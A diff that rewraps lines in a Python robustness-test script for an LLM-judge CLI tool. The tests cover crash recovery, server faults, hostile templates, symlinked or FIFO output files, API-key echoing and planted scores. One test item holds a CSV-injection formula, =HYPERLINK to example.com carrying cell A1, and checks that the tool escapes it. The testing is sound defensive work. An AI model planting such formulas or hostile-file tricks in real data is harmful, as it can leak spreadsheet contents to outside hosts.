@@ -154,7 +154,8 @@ def write_bench(folder: Path, n: int) -> tuple[Path, Path]:
     folder.mkdir(parents=True, exist_ok=True)
     bench, prompt = folder / "bench.jsonl", folder / "prompt.txt"
     bench.write_text("".join(json.dumps({"id": f"x{i:04d}", "inputs": {"source": f"Article {i}."},
-                                         "output": f"S{i}.", "human": {"fluency": 3}}) + "\n" for i in range(n)))
+                                         "output": f"S{i}.", "human": {"fluency": 3}}) + "\n"
+                             for i in range(n)))
     prompt.write_text(PROMPT)
     return bench, prompt
 
@@ -168,7 +169,8 @@ def env_for(code: Path, cache: Path) -> dict[str, str]:
     return env
 
 
-def judge_args(bench: Path, prompt: Path, url: str, run_dir: Path | None, *, backend: str = "openai:stub-model",
+def judge_args(bench: Path, prompt: Path, url: str, run_dir: Path | None, *,
+               backend: str = "openai:stub-model",
                concurrency: int = 8, extra: tuple[str, ...] = ()) -> list[str]:
     args = ["judge", "-b", f"jsonl:{bench}", "-c", "fluency", "--prompt", str(prompt), "--backend", backend,
             "--base-url", url, "-n", "0", "--no-progress", "--concurrency", str(concurrency), *extra]
@@ -211,7 +213,8 @@ def check_run(run_dir: Path, n: int) -> dict[str, Any]:
     wrong = sum(1 for j in results["judgments"] if j["scores"].get("fluency") != wanted.get(j["item_id"]))
     return {
         "lost": sum(1 for i in wanted if listed[i] == 0 or i not in ok_lines),
-        "duplicated": sum(c - 1 for c in listed.values() if c > 1) + sum(c - 1 for c in ok_lines.values() if c > 1),
+        "duplicated": sum(c - 1 for c in listed.values() if c > 1)
+        + sum(c - 1 for c in ok_lines.values() if c > 1),
         "wrong_score": wrong,
     }
 
@@ -247,22 +250,27 @@ def kill_trials(args: argparse.Namespace, work: Path, rng: random.Random) -> dic
                 fault = {"journal-write": "journal", "cache-uncommitted": "cache-uncommitted",
                          "cache-torn": "cache-torn"}[mode]
                 proc = subprocess.Popen([sys.executable, str(hook), *cmd], stdout=subprocess.DEVNULL,
-                                        stderr=subprocess.DEVNULL, env={**env, "MITIGATE_BENCH_FAULT": f"{fault}:{point}"})
+                                        stderr=subprocess.DEVNULL,
+                                        env={**env, "MITIGATE_BENCH_FAULT": f"{fault}:{point}"})
                 proc.wait(timeout=300)
             killed = proc.returncode == -signal.SIGKILL
             done_before = journal_lines(run_dir / "journal.jsonl") - 1
             requests_before = server.request_count
-            resume = subprocess.run([sys.executable, "-m", "mitigate", *cmd], env=env, cwd=REPO, capture_output=True,
+            resume = subprocess.run([sys.executable, "-m", "mitigate", *cmd], env=env, cwd=REPO,
+                                    capture_output=True,
                                     text=True, timeout=600)
-            row = {"trial": t, "mode": mode, "point": point, "killed": killed, "journal_lines_at_kill": done_before,
+            row = {"trial": t, "mode": mode, "point": point, "killed": killed,
+                   "journal_lines_at_kill": done_before,
                    "resume_exit": resume.returncode, "requests": server.request_count,
                    "resume_warnings": [ln for ln in resume.stderr.splitlines() if ln.startswith("warning:")],
-                   "extra_requests": server.request_count - args.items, "requests_before_kill": requests_before,
+                   "extra_requests": server.request_count - args.items,
+                   "requests_before_kill": requests_before,
                    **check_run(run_dir, args.items)}
         trials.append(row)
-        print(f"  kill {t:2d} {mode:17s} at {point:3d}: killed={row['killed']} resume exit {row['resume_exit']} "
-              f"lost={row['lost']} duplicated={row['duplicated']} wrong={row['wrong_score']} "
-              f"requests={row['requests']} (+{row['extra_requests']} re-sent)", flush=True)
+        print(f"  kill {t:2d} {mode:17s} at {point:3d}: killed={row['killed']} resume exit "
+              f"{row['resume_exit']} lost={row['lost']} duplicated={row['duplicated']} "
+              f"wrong={row['wrong_score']} requests={row['requests']} (+{row['extra_requests']} re-sent)",
+              flush=True)
     shared = shared_folder_trials(args, work, bench, prompt)
     return {
         "trials": trials,
@@ -284,11 +292,13 @@ def shared_folder_trials(args: argparse.Namespace, work: Path, bench: Path, prom
         run_dir, cache = work / "shared" / "run", work / "shared" / "cache"
         env = env_for(REPO, cache)
         cmd = judge_args(bench, prompt, server.base_url, run_dir, concurrency=2)
-        first = subprocess.Popen([sys.executable, "-m", "mitigate", *cmd], env=env, cwd=REPO, stdout=subprocess.DEVNULL,
+        first = subprocess.Popen([sys.executable, "-m", "mitigate", *cmd], env=env, cwd=REPO,
+                                 stdout=subprocess.DEVNULL,
                                  stderr=subprocess.PIPE, text=True)
         while journal_lines(run_dir / "journal.jsonl") < 3 and first.poll() is None:
             time.sleep(0.01)
-        second = subprocess.run([sys.executable, "-m", "mitigate", *cmd], env=env, cwd=REPO, capture_output=True, text=True,
+        second = subprocess.run([sys.executable, "-m", "mitigate", *cmd], env=env, cwd=REPO,
+                                capture_output=True, text=True,
                                 timeout=120)
         first.communicate(timeout=600)
         out["same_run_dir"] = {"second_exit": second.returncode, "second_stderr": second.stderr.strip(),
@@ -297,20 +307,24 @@ def shared_folder_trials(args: argparse.Namespace, work: Path, bench: Path, prom
     with StubOpenAIServer(latency=args.latency, reply=reply) as server:
         cache = work / "shared-cache" / "cache"
         procs = [subprocess.Popen([sys.executable, "-m", "mitigate",
-                                   *judge_args(bench, prompt, server.base_url, work / "shared-cache" / f"run{k}")],
-                                  env=env_for(REPO, cache), cwd=REPO, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+                                   *judge_args(bench, prompt, server.base_url,
+                                               work / "shared-cache" / f"run{k}")],
+                                  env=env_for(REPO, cache), cwd=REPO, stdout=subprocess.DEVNULL,
+                                  stderr=subprocess.DEVNULL)
                  for k in range(2)]
         codes = [p.wait(timeout=600) for p in procs]
         checks = [check_run(work / "shared-cache" / f"run{k}", args.items) for k in range(2)]
         out["shared_cache"] = {"exits": codes, "requests": server.request_count,
-                               "lost": sum(c["lost"] for c in checks), "duplicated": sum(c["duplicated"] for c in checks),
+                               "lost": sum(c["lost"] for c in checks),
+                               "duplicated": sum(c["duplicated"] for c in checks),
                                "wrong_score": sum(c["wrong_score"] for c in checks)}
     s = out["same_run_dir"]
     print(f"  second process on a run folder in use: exit {s['second_exit']} ({s['second_stderr'][:90]}...); "
-          f"first exit {s['first_exit']}, lost={s['lost']} duplicated={s['duplicated']}, {s['requests']} requests")
+          f"first exit {s['first_exit']}, lost={s['lost']} duplicated={s['duplicated']}, "
+          f"{s['requests']} requests")
     c = out["shared_cache"]
-    print(f"  two processes sharing one cache: exits {c['exits']}, lost={c['lost']} duplicated={c['duplicated']}, "
-          f"{c['requests']} requests for {2 * args.items} judgments")
+    print(f"  two processes sharing one cache: exits {c['exits']}, lost={c['lost']} "
+          f"duplicated={c['duplicated']}, {c['requests']} requests for {2 * args.items} judgments")
     return out
 
 
@@ -342,24 +356,28 @@ def storm(args: argparse.Namespace, work: Path) -> dict[str, Any]:
         cmd = judge_args(bench, prompt, server.base_url, run_dir)
         env = env_for(REPO, work / "storm" / "cache")
         start = time.perf_counter()
-        first = subprocess.run([sys.executable, "-m", "mitigate", *cmd], env=env, cwd=REPO, capture_output=True, text=True,
+        first = subprocess.run([sys.executable, "-m", "mitigate", *cmd], env=env, cwd=REPO,
+                               capture_output=True, text=True,
                                timeout=1200)
         seconds = time.perf_counter() - start
         first_errors = json.loads((run_dir / "results.json").read_text())["summary"]["errors"]
         reruns = 0
         while first_errors and reruns < 3 and check_run(run_dir, args.storm_items)["lost"]:
-            subprocess.run([sys.executable, "-m", "mitigate", *cmd], env=env, cwd=REPO, capture_output=True, timeout=1200)
+            subprocess.run([sys.executable, "-m", "mitigate", *cmd], env=env, cwd=REPO, capture_output=True,
+                           timeout=1200)
             reruns += 1
         row = {"items": args.storm_items, "rate": args.storm_rate, "faults": server.faults,
                "answered": server.answered, "first_exit": first.returncode, "first_pass_errors": first_errors,
-               "reruns": reruns, "seconds_first_pass": round(seconds, 1), **check_run(run_dir, args.storm_items)}
-    print(f"  storm: {row['faults']} faults injected, {row['answered']} answers; first pass exit {row['first_exit']}, "
-          f"{row['first_pass_errors']} errors, {row['seconds_first_pass']} s; after {reruns} reruns lost={row['lost']} "
-          f"duplicated={row['duplicated']} wrong={row['wrong_score']}")
+               "reruns": reruns, "seconds_first_pass": round(seconds, 1),
+               **check_run(run_dir, args.storm_items)}
+    print(f"  storm: {row['faults']} faults injected, {row['answered']} answers; first pass exit "
+          f"{row['first_exit']}, {row['first_pass_errors']} errors, {row['seconds_first_pass']} s; after "
+          f"{reruns} reruns lost={row['lost']} duplicated={row['duplicated']} wrong={row['wrong_score']}")
     return row
 
 
-# ------------------------------------------------------------------------------------------- 3. permanent errors
+# ------------------------------------------------------------------------------------------- 3. permanent
+# errors
 
 
 def free_port() -> int:
@@ -388,7 +406,8 @@ def permanent(code: Path, work: Path, n: int, timeout: float) -> list[dict[str, 
     rows = []
     for name, kind, server_kw, strict in PERMANENT:
         run_dir = work / name.replace(" ", "_") / "run"
-        server = StubOpenAIServer(latency=0.0, fail_first=10**9, **server_kw) if isinstance(server_kw, dict) else None
+        server = StubOpenAIServer(latency=0.0, fail_first=10**9, **server_kw) if isinstance(server_kw,
+                                                                                            dict) else None
         if server is not None:
             server.start()
             url = server.base_url if kind == "openai" else server.url
@@ -399,11 +418,13 @@ def permanent(code: Path, work: Path, n: int, timeout: float) -> list[dict[str, 
             proc = subprocess.run([sys.executable, "-m", "mitigate",
                                    *judge_args(bench, prompt, url, run_dir, backend=f"{kind}:stub-model",
                                                concurrency=4)],
-                                  env=env_for(code, work / "cache"), capture_output=True, text=True, timeout=timeout,
+                                  env=env_for(code, work / "cache"), capture_output=True, text=True,
+                                  timeout=timeout,
                                   cwd=code)
             code_, stderr, timed_out = proc.returncode, proc.stderr, False
         except subprocess.TimeoutExpired as exc:
-            code_, stderr, timed_out = None, (exc.stderr or b"").decode() if isinstance(exc.stderr, bytes) else (
+            code_, stderr, timed_out = None, (exc.stderr or b"").decode() if isinstance(exc.stderr,
+                                                                                        bytes) else (
                 exc.stderr or ""), True
         seconds = time.perf_counter() - start
         requests = server.request_count if server is not None else None
@@ -412,7 +433,8 @@ def permanent(code: Path, work: Path, n: int, timeout: float) -> list[dict[str, 
         errors = [ln for ln in stderr.splitlines() if ln.startswith("error:")]
         row = {"case": name, "items": n, "strict": strict, "exit": code_, "timed_out": timed_out,
                "requests": requests, "seconds": round(seconds, 1), "error_lines": len(errors),
-               "traceback": "Traceback" in stderr, "line": errors[-1] if errors else stderr.strip().splitlines()[-1:]}
+               "traceback": "Traceback" in stderr, "line": errors[-1] if errors
+               else stderr.strip().splitlines()[-1:]}
         rows.append(row)
         print(f"  {name:28s} exit {code_!s:4s} requests {requests!s:>4s} {seconds:6.1f} s  "
               f"{(errors[-1] if errors else '(no error line)')[:110]}", flush=True)
@@ -438,21 +460,26 @@ def bad_inputs(code: Path, work: Path, *, baseline: bool = False) -> list[dict[s
                 continue
             before = server.request_count
             try:
-                proc = subprocess.run([sys.executable, "-m", "mitigate", *expand(case, folder, server.base_url)],
+                proc = subprocess.run([sys.executable, "-m", "mitigate",
+                                       *expand(case, folder, server.base_url)],
                                       env=env, capture_output=True, text=True, timeout=120, cwd=code)
                 code_, stderr = proc.returncode, proc.stderr
             except subprocess.TimeoutExpired:
                 code_, stderr = None, "(timed out after 120 s)"
             lines = stderr.splitlines()
             one_line = len(lines) == 1 and lines[0].startswith("error:")
-            row = {"case": case.name, "exit": code_, "stderr_lines": len(lines), "traceback": "Traceback" in stderr,
-                   "one_line_error": one_line, "expected_text": one_line and case.expect.lower() in lines[0].lower(),
+            row = {"case": case.name, "exit": code_, "stderr_lines": len(lines),
+                   "traceback": "Traceback" in stderr,
+                   "one_line_error": one_line, "expected_text": one_line
+                   and case.expect.lower() in lines[0].lower(),
                    "requests": server.request_count - before, "first_line": lines[0][:200] if lines else ""}
-            row["pass"] = bool(code_ not in (0, None) and one_line and row["expected_text"] and not row["traceback"]
+            row["pass"] = bool(code_ not in (0, None) and one_line and row["expected_text"]
+                               and not row["traceback"]
                                and row["requests"] == 0)
             rows.append(row)
             if not row["pass"]:
-                print(f"  FAIL {case.name}: exit {code_}, {len(lines)} stderr lines, first: {row['first_line'][:120]}")
+                print(f"  FAIL {case.name}: exit {code_}, {len(lines)} stderr lines, first: "
+                      f"{row['first_line'][:120]}")
     passed = sum(r["pass"] for r in rows)
     print(f"  {passed} of {len(rows)} bad inputs end in one error line with exit != 0 and no LM request")
     return rows
@@ -477,13 +504,15 @@ def _cli(code: Path, args: list[str], env: dict[str, str], cwd: Path, timeout: f
     """One CLI process of ``code`` under the memory limit: exit code (None: timed out), stderr, seconds."""
     start = time.perf_counter()
     try:
-        proc = subprocess.run([sys.executable, "-m", "mitigate", *args], env=env, cwd=code, capture_output=True,
+        proc = subprocess.run([sys.executable, "-m", "mitigate", *args], env=env, cwd=code,
+                              capture_output=True,
                               text=True, timeout=timeout, preexec_fn=_limited)
         code_, stderr = proc.returncode, proc.stderr
     except subprocess.TimeoutExpired as exc:
         code_, stderr = None, exc.stderr.decode(errors="replace") if isinstance(exc.stderr, bytes) else (
             exc.stderr or "")
-    return {"exit": code_, "stderr": stderr, "seconds": round(time.perf_counter() - start, 2), "cwd": str(cwd)}
+    return {"exit": code_, "stderr": stderr, "seconds": round(time.perf_counter() - start, 2),
+            "cwd": str(cwd)}
 
 
 def _refused(out: dict[str, Any], expect: str) -> bool:
@@ -493,7 +522,8 @@ def _refused(out: dict[str, Any], expect: str) -> bool:
 
 
 def hostile_templates(code: Path, work: Path, payloads: str, timeout: float) -> list[dict[str, Any]]:
-    """Every payload through ``prompts inspect``; the chosen ones through every other command that reads a template."""
+    """Every payload through ``prompts inspect``; the chosen ones through every other command that reads a
+    template."""
     folder = make_fixtures(work / "fixtures")
     env = env_for(code, work / "cache")
     rows = []
@@ -506,20 +536,24 @@ def hostile_templates(code: Path, work: Path, payloads: str, timeout: float) -> 
                 prompt = work / f"hostile-{k}.txt"
                 prompt.write_text(hostile_template(payload, marker), encoding="utf-8")
                 before = server.request_count
-                out = _cli(code, template_command(command, prompt, folder, server.base_url), env, work, timeout)
-                row = {"command": command, "payload": payload.name, "exit": out["exit"], "seconds": out["seconds"],
+                out = _cli(code, template_command(command, prompt, folder, server.base_url), env, work,
+                           timeout)
+                row = {"command": command, "payload": payload.name, "exit": out["exit"],
+                       "seconds": out["seconds"],
                        "marker_created": marker.exists(), "requests": server.request_count - before,
                        "first_line": out["stderr"].splitlines()[0][:200] if out["stderr"] else ""}
                 row["pass"] = (_refused(out, payload.expect) and f" {prompt}: " in row["first_line"]
                                and not row["marker_created"] and row["requests"] == 0)
                 rows.append(row)
-                print(f"  {'pass' if row['pass'] else 'FAIL'}  {command:16s} {payload.name:32s} exit {row['exit']!s:4s} "
-                      f"{row['seconds']:5.1f} s{'  MARKER CREATED' if row['marker_created'] else ''}", flush=True)
+                print(f"  {'pass' if row['pass'] else 'FAIL'}  {command:16s} {payload.name:32s} exit "
+                      f"{row['exit']!s:4s} {row['seconds']:5.1f} "
+                      f"s{'  MARKER CREATED' if row['marker_created'] else ''}", flush=True)
     return rows
 
 
 def _device_node(path: Path) -> str:
-    """A character device node at ``path`` (the null device; a link to /dev/null where mknod is not allowed)."""
+    """A character device node at ``path`` (the null device; a link to /dev/null where mknod is not
+    allowed)."""
     try:
         os.mknod(path, 0o020666, os.makedev(1, 3))
         return "device node"
@@ -540,10 +574,11 @@ def hostile_run_folder(code: Path, work: Path, timeout: float) -> list[dict[str,
     def case(name: str, passed: bool, out: dict[str, Any], **detail: Any) -> None:
         lines = out["stderr"].splitlines()
         row = {"case": name, "pass": bool(passed), "exit": out["exit"], "seconds": out["seconds"],
-               "line": next((ln for ln in lines if ln.startswith(("error:", "warning:"))), "")[:200], **detail}
+               "line": next((ln for ln in lines if ln.startswith(("error:", "warning:"))), "")[:200],
+               **detail}
         rows.append(row)
-        print(f"  {'pass' if row['pass'] else 'FAIL'}  {name:44s} exit {row['exit']!s:4s} {row['seconds']:5.1f} s  "
-              f"{row['line'][:110]}", flush=True)
+        print(f"  {'pass' if row['pass'] else 'FAIL'}  {name:44s} exit {row['exit']!s:4s} "
+              f"{row['seconds']:5.1f} s  {row['line'][:110]}", flush=True)
 
     with StubOpenAIServer(latency=0.0, reply=reply) as server:
         url = server.base_url
@@ -575,13 +610,16 @@ def hostile_run_folder(code: Path, work: Path, timeout: float) -> list[dict[str,
             fh.truncate((d / "journal.jsonl").stat().st_size + 2**30)
         out = _cli(code, judge(d), env, work, timeout)
         errors = [ln for ln in out["stderr"].splitlines() if ln.startswith("error:")]
-        case("journal line of 1 GiB (sparse)", out["exit"] == 2 and len(errors) == 1 and "is longer" in errors[0]
+        case("journal line of 1 GiB (sparse)", out["exit"] == 2 and len(errors) == 1
+             and "is longer" in errors[0]
              and "Traceback" not in out["stderr"], out)  # found while reading it: after the run's first line
 
         d = fresh("fifo-likelihood")
         os.mkfifo(d / "likelihood.jsonl")
-        out = _cli(code, ["compare", "-b", f"jsonl:{bench}", "-c", "fluency", "--prompt", str(prompt), "--backend",
-                          "openai:stub-model", "--base-url", url, "--no-progress", "-p", "baseline", "--out", str(d)],
+        out = _cli(code,
+                   ["compare", "-b", f"jsonl:{bench}", "-c", "fluency", "--prompt", str(prompt), "--backend",
+                          "openai:stub-model", "--base-url", url, "--no-progress", "-p", "baseline", "--out",
+                    str(d)],
                    env, work, timeout)
         case("FIFO at compare's likelihood.jsonl", _refused(out, "FIFO"), out)
 
@@ -591,7 +629,8 @@ def hostile_run_folder(code: Path, work: Path, timeout: float) -> list[dict[str,
         (d / "results.json").symlink_to(real)
         out = _cli(code, judge(d), env, work, timeout)
         kept = (d / "results.json").is_symlink() and real.read_text(encoding="utf-8").startswith("{")
-        case("results.json is a symlink", out["exit"] == 0 and kept, out, still_a_link=(d / "results.json").is_symlink())
+        case("results.json is a symlink", out["exit"] == 0 and kept, out,
+             still_a_link=(d / "results.json").is_symlink())
 
         d = fresh("device-results")
         how = _device_node(d / "results.json")
@@ -628,21 +667,27 @@ def hostile_run_folder(code: Path, work: Path, timeout: float) -> list[dict[str,
             d = fresh("full-disk")
             (d / "results.json").symlink_to("/dev/full")
             out = _cli(code, judge(d), env, work, timeout)
-            case("results.json on a full disk (/dev/full)", out["exit"] == 1 and "journal" in out["stderr"], out)
+            case("results.json on a full disk (/dev/full)", out["exit"] == 1 and "journal" in out["stderr"],
+                 out)
 
         formula = work / "formula.jsonl"
         formula.write_text(json.dumps({"id": '=HYPERLINK("http://example.com/?"&A1,"x")', "output": "S1.",
                                        "inputs": {"source": "Article 1."}, "human": {"fluency": 3}}) + "\n")
-        out = _cli(code, ["judge", "-b", f"jsonl:{formula}", "-c", "fluency", "--prompt", str(prompt), "--backend",
-                          "openai:stub-model", "--base-url", url, "--no-progress", "--out", str(work / "rows.csv")],
+        out = _cli(code,
+                   ["judge", "-b", f"jsonl:{formula}", "-c", "fluency", "--prompt", str(prompt), "--backend",
+                          "openai:stub-model", "--base-url", url, "--no-progress", "--out",
+                    str(work / "rows.csv")],
                    env, work, timeout)
-        cell = (work / "rows.csv").read_text(encoding="utf-8").splitlines()[1:2] if (work / "rows.csv").exists() else []
-        case("CSV --out cell holding =HYPERLINK(...)", out["exit"] == 0 and bool(cell) and cell[0].startswith('"\'=')
+        rows_csv = work / "rows.csv"
+        cell = rows_csv.read_text(encoding="utf-8").splitlines()[1:2] if rows_csv.exists() else []
+        case("CSV --out cell holding =HYPERLINK(...)", out["exit"] == 0 and bool(cell)
+             and cell[0].startswith('"\'=')
              , out, cell=cell[0][:60] if cell else "")
     return rows
 
 
-# ------------------------------------------------------------------------------------------- 6. hostile servers
+# ------------------------------------------------------------------------------------------- 6. hostile
+# servers
 
 
 SECRET = "sk-bench-echo-7d41c09e2b"
@@ -674,10 +719,12 @@ def echoed_keys(work: Path, code: Path = REPO) -> list[dict[str, Any]]:
                 sent = list(server.keys)
             files = [p for p in folder.rglob("*") if p.is_file()]
             leaks = [str(p.relative_to(folder)) for p in files if SECRET.encode() in p.read_bytes()]
-            leaks += [stream for stream, text in (("stdout", proc.stdout), ("stderr", proc.stderr)) if SECRET in text]
+            leaks += [stream for stream, text in (("stdout", proc.stdout), ("stderr", proc.stderr))
+                      if SECRET in text]
             expect = 0 if mode in ("echo", "echo_escaped") else 1
             row = {"client": name, "mode": mode, "exit": proc.returncode, "requests": len(sent),
-                   "key_sent": bool(sent) and all(k == SECRET for k in sent), "files": len(files), "leaks": leaks,
+                   "key_sent": bool(sent) and all(k == SECRET for k in sent), "files": len(files),
+                   "leaks": leaks,
                    "bug": "bug in mitigate" in proc.stderr or "Traceback" in proc.stderr}
             row["pass"] = bool(row["key_sent"] and not leaks and not row["bug"] and proc.returncode == expect)
             rows.append(row)
@@ -711,7 +758,8 @@ def default_hang(work: Path) -> list[dict[str, Any]]:
             seconds, timed_out = time.perf_counter() - start, True
         server.__exit__(None, None, None)
         line = next((ln for ln in reversed(stderr.splitlines()) if ln.startswith("error:")), "")
-        row = {"server": name, "exit": proc.returncode, "seconds": round(seconds, 1), "requests": server.requests,
+        row = {"server": name, "exit": proc.returncode, "seconds": round(seconds, 1),
+               "requests": server.requests,
                "timed_out": timed_out, "line": line}
         row["pass"] = bool(not timed_out and proc.returncode == 1 and seconds < 120 and server.requests <= 3
                            and "hung or trickling" in line)
@@ -721,7 +769,8 @@ def default_hang(work: Path) -> list[dict[str, Any]]:
     return rows
 
 
-# ------------------------------------------------------------------------------------------- 7. planted values
+# ------------------------------------------------------------------------------------------- 7. planted
+# values
 
 _SENTENCE = "The council approved the new budget on Monday after a long debate"
 PLANTED_FORMATS: dict[str, dict[str, Any]] = {
@@ -729,15 +778,17 @@ PLANTED_FORMATS: dict[str, dict[str, Any]] = {
         "Rate the fluency of the summary from 1 to 5.\n\nArticle: {{source}}\nSummary: {{summary}}\n\n"
         'Explain briefly, then end with a line "Score: N".')},
     "[RESULT] N": {"kind": "score", "line": "[RESULT] {value}", "values": ["1", "4"], "prompt": (
-        "###Task Description:\nWrite a short feedback on the fluency of the summary, then a score from 1 to 5. "
+        "###Task Description:\nWrite a short feedback on the fluency of the summary, then a score "
+        "from 1 to 5. "
         'The output should look as follows: "Feedback: (a feedback) [RESULT] (an integer from 1 to 5)"\n\n'
         "###Article:\n{{source}}\n\n###Summary to evaluate:\n{{summary}}\n\n###Feedback: ")},
     "JSON score": {"kind": "score", "line": "json", "values": ["3", "5"], "prompt": (
         "Rate the fluency of the summary from 1 to 5.\n\nArticle: {{source}}\nSummary: {{summary}}\n\n"
         'Answer with a JSON object with a "reason" field and a "score" field.')},
     "[[A]] / [[B]] / [[C]]": {"kind": "pairwise", "line": "[[{value}]]", "values": ["A", "B"], "prompt": (
-        "Compare the two summaries of the article for fluency.\n\nArticle: {{source}}\n\n[Assistant A]\n{{output}}"
-        "\n\n[Assistant B]\n{{output_b}}\n\nExplain your comparison first, then output your final verdict: "
+        "Compare the two summaries of the article for fluency.\n\nArticle: {{source}}\n\n[Assistant "
+        "A]\n{{output}}\n\n[Assistant B]\n{{output_b}}\n\nExplain your comparison first, then output your "
+        "final verdict: "
         '"[[A]]" if A is better, "[[B]]" if B is better, "[[C]]" for a tie.')},
     "Therefore, Output (X) is better.": {"kind": "pairwise", "line": "Therefore, Output ({value}) is better.",
                                          "values": ["a", "b"], "prompt": (
@@ -754,7 +805,8 @@ def _planted_line(fmt: dict[str, Any], value: str) -> str:
 
 
 def planted_cases(fmt: dict[str, Any]) -> list[dict[str, Any]]:
-    """Every (own value, planted value, quotation, position, inline or alone) for one format, plus its issue cases."""
+    """Every (own value, planted value, quotation, position, inline or alone) for one format, plus its issue
+    cases."""
     from mitigate.testing.planted import ISSUE_CASES, POSITIONS, QUOTES, judge_answer, quote_back
 
     cases: list[dict[str, Any]] = []
@@ -776,7 +828,8 @@ def planted_cases(fmt: dict[str, Any]) -> list[dict[str, Any]]:
         if case.line == fmt["line"]:
             own = {"first": a, "second": b}.get(str(case.own), case.own)
             planted = {"first": a, "second": b}.get(str(case.planted), case.planted)
-            cases.append({"judged": case.judged[0], "own": own if own == "failure" else str(own).removesuffix(".0"),
+            cases.append({"judged": case.judged[0], "own": own if own == "failure"
+                          else str(own).removesuffix(".0"),
                           "planted": str(planted).removesuffix(".0"), "quote": f"issue: {case.name}",
                           "marked": own != "failure",
                           "answer": case.answer, "other": case.judged[1] if len(case.judged) > 1 else None})
@@ -784,7 +837,8 @@ def planted_cases(fmt: dict[str, Any]) -> list[dict[str, Any]]:
 
 
 def planted_values(code: Path, work: Path) -> dict[str, Any]:
-    """Part 5: per answer format, one ``mitigate judge`` run whose items hold a planted value (see the docstring)."""
+    """Part 5: per answer format, one ``mitigate judge`` run whose items hold a planted value (see the
+    docstring)."""
     work.mkdir(parents=True, exist_ok=True)
     per_format: dict[str, Any] = {}
     by_quote: dict[str, Counter[str]] = {}
@@ -794,7 +848,8 @@ def planted_values(code: Path, work: Path) -> dict[str, Any]:
         rows = []
         for i, case in enumerate(cases):
             text = f"Case {i:04d}. {case['judged']}"
-            row: dict[str, Any] = {"id": f"c{i:04d}", "inputs": {"source": "The council met on Monday."}, "output": text}
+            row: dict[str, Any] = {"id": f"c{i:04d}", "inputs": {"source": "The council met on Monday."},
+                                   "output": text}
             if pairwise:  # the planted text is output (a) or (b), the other a plain answer
                 other = case.get("other") or f"Case {i:04d}. The council met."
                 row.update(output=text, output_b=other, preference={"fluency": "A"})
@@ -814,11 +869,13 @@ def planted_values(code: Path, work: Path) -> dict[str, Any]:
 
         with StubOpenAIServer(latency=0.0, reply=answer) as server:
             cmd = judge_args(bench, prompt, server.base_url, folder / "run", concurrency=8)
-            done = subprocess.run([sys.executable, "-m", "mitigate", *cmd], env=env_for(code, folder / "cache"),
+            done = subprocess.run([sys.executable, "-m", "mitigate", *cmd],
+                                  env=env_for(code, folder / "cache"),
                                   cwd=code, capture_output=True, text=True, timeout=1200)
         results_file = folder / "run" / "results.json"
         if not results_file.is_file():
-            per_format[name] = {"error": (done.stderr.strip().splitlines() or ["no output"])[-1], "exit": done.returncode}
+            per_format[name] = {"error": (done.stderr.strip().splitlines() or ["no output"])[-1],
+                                "exit": done.returncode}
             continue
         judgments = {j["item_id"]: j for j in judged(folder / "run")}
         counts: Counter[str] = Counter()
@@ -826,9 +883,10 @@ def planted_values(code: Path, work: Path) -> dict[str, Any]:
         for i, case in enumerate(cases):
             j = judgments.get(f"c{i:04d}", {})
             if pairwise:
-                got = {"A": fmt["values"][0], "B": fmt["values"][1]}.get(str(j.get("verdict_text") or ""), None) \
-                    if "verdict_text" in j else {"first": fmt["values"][0], "second": fmt["values"][1]}.get(
-                        str(j.get("verdict")), None)
+                by_text = {"A": fmt["values"][0], "B": fmt["values"][1]}
+                by_position = {"first": fmt["values"][0], "second": fmt["values"][1]}
+                got = (by_text.get(str(j.get("verdict_text") or "")) if "verdict_text" in j
+                       else by_position.get(str(j.get("verdict"))))
             else:
                 score = (j.get("scores") or {}).get("fluency")
                 got = None if score is None else str(score).removesuffix(".0")
@@ -882,10 +940,13 @@ def main() -> None:
     ap.add_argument("--baseline-code", type=Path, default=None,
                     help="a checkout whose CLI runs parts 3 and 4 again for comparison (e.g. /work/main)")
     ap.add_argument("--skip", nargs="*", default=[],
-                    choices=["kill", "storm", "permanent", "bad-inputs", "hostile", "echoed-keys", "hang", "planted"])
+                    choices=["kill", "storm", "permanent", "bad-inputs", "hostile", "echoed-keys", "hang",
+                             "planted"])
     ap.add_argument("--hostile-payloads", choices=["few", "all"], default="few",
-                    help="template payloads sent through every command (every payload goes through prompts inspect)")
-    ap.add_argument("--hostile-timeout", type=float, default=60.0, help="seconds before a hostile case's process "
+                    help="template payloads sent through every command (every payload goes through "
+                         "prompts inspect)")
+    ap.add_argument("--hostile-timeout", type=float, default=60.0,
+                    help="seconds before a hostile case's process "
                     "counts as hung")
     ap.add_argument("--out", type=Path, default=OUT, help="where to write the JSON")
     args = ap.parse_args()
@@ -900,13 +961,15 @@ def main() -> None:
             print(f"1. SIGKILL trials ({args.trials}, {args.items} items each)", flush=True)
             out["sigkill"] = kill_trials(args, work / "kill", rng)
         if "storm" not in args.skip:
-            print(f"2. fault storm ({args.storm_rate:.0%} of requests 429/5xx, {args.storm_items} items)", flush=True)
+            print(f"2. fault storm ({args.storm_rate:.0%} of requests 429/5xx, {args.storm_items} items)",
+                  flush=True)
             out["storm"] = storm(args, work / "storm")
         arms = [("this", REPO)] + ([("baseline", args.baseline_code.resolve())] if args.baseline_code else [])
         out["commits"] = {arm: git_head(code) for arm, code in arms}
         for arm, code in arms:
             if "permanent" not in args.skip:
-                print(f"3. permanent errors ({arm}: {code}, {args.permanent_items} items, concurrency 4)", flush=True)
+                print(f"3. permanent errors ({arm}: {code}, {args.permanent_items} items, concurrency 4)",
+                      flush=True)
                 rows = permanent(code, work / f"permanent-{arm}", args.permanent_items,
                                  timeout=300 if arm == "baseline" else 120)
                 out.setdefault("permanent", {})[arm] = {"code": str(code), "cases": rows,
@@ -915,14 +978,17 @@ def main() -> None:
                 print(f"4. bad inputs ({arm}: {code}, {len(BAD_INPUTS)} cases)", flush=True)
                 rows = bad_inputs(code, work / f"bad-{arm}", baseline=arm == "baseline")
                 out.setdefault("bad_inputs", {})[arm] = {
-                    "code": str(code), "cases": rows, "passed": sum(r["pass"] for r in rows), "total": len(rows),
-                    "tracebacks": sum(r["traceback"] for r in rows), "exit_zero": sum(r["exit"] == 0 for r in rows)}
+                    "code": str(code), "cases": rows, "passed": sum(r["pass"] for r in rows),
+                    "total": len(rows),
+                    "tracebacks": sum(r["traceback"] for r in rows),
+                    "exit_zero": sum(r["exit"] == 0 for r in rows)}
             if "hostile" not in args.skip:
                 print(f"5. hostile input: templates ({arm}: {code})", flush=True)
                 tpl = hostile_templates(code, work / f"hostile-{arm}" / "templates", args.hostile_payloads,
                                         args.hostile_timeout)
